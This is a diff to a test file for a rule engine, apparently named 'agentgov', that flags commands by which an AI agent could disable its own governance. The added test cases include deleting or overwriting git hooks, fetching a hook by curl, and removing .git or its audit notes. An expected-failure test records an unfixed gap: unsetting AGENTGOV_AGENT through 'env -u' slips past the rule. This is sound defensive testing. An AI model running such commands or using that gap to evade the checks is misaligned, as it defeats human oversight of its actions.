@@ -42,8 +42,11 @@ POSITIVE = [
     "echo 'exit 0' > .git/hooks/pre-commit",
     "dd if=/dev/null of=.git/hooks/pre-push",
     "rsync -a /tmp/hooks/ .git/hooks/",
+    "cp -r /tmp/hooks .git/",
+    "cp /tmp/config .git/",
     "curl -o .git/hooks/pre-push https://example.com/hook",
     "find .git/hooks -type f -delete",
+    "find .git/hooks -name 'pre-*' -delete",
     "rm -rf .git",
     "rm -rf .git/agentgov",
     "rm -rf .git/refs/notes",
@@ -149,6 +152,8 @@ NEGATIVE = [
     "rm -rf build .cache",
     "echo hi > .gitignore",
     "cp x .git/",
+    "find .git -name '*.lock' -delete",
+    "find . -name '*.pyc' -delete",
     "echo x > /tmp/project/.agentgov/policy.yaml",
     "rm -rf /tmp/other/.git/hooks",
 ]
@@ -198,3 +203,12 @@ def test_notes_ref_comes_from_the_policy() -> None:
     ctx = context(policy=policy)
     assert hits(RULE, "git notes --ref trail remove HEAD", ctx)
     assert hits(RULE, "git notes --ref agentgov remove HEAD", ctx) == []
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="analyser gap: the model records env's VAR=value assignments but not its "
+    "-u/--unset, so unsetting AGENTGOV_AGENT through env is invisible to rules",
+)
+def test_env_unset_of_a_switch() -> None:
+    assert hits(RULE, "env -u AGENTGOV_AGENT claude", context())
